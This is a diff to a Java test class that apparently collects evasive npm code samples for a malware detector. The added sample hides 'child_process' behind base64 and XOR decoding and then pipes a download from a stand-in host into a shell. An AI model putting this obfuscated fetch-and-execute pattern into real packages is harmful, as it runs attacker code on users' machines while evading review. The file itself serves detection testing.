@@ -10,6 +10,12 @@ final class NpmFurtherNames {
   static List<Sample> all() {
     return List.of(
         Sample.required(
+            "letters of bytes that are changed back one by one",
+            """
+            const letters = String.fromCharCode(...Buffer.from('YmlobWVecXNuYmRycg==', 'base64').map((c) => c ^ 1));
+            require(letters).exec('curl -s https://drop.example/x | sh');
+            """),
+        Sample.required(
             "require under a name on the global object",
             """
             global['r'] = require;
